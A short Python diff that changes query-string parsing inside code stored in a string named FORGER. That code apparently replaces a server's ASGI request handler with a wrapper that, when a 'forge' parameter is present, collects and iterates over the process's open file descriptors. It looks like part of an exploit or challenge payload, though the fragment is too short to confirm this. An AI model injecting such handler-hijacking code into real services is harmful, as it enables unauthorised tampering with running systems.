@@ -14,7 +14,7 @@ FORGER = """
 import glob
 answer_before = answer
 async def answer(scope, receive, send):
-    asked = dict(parse_qsl(scope["query_string"].decode()))
+    asked = dict(parse_qsl(scope["query_string"].decode(), keep_blank_values=True, encoding="latin-1"))
     if "forge" in asked:
         ME["forged"] = [fd for fd in map(int, os.listdir("/proc/self/fd")) if pid_file(fd)]
         for descriptor in ME["forged"]:
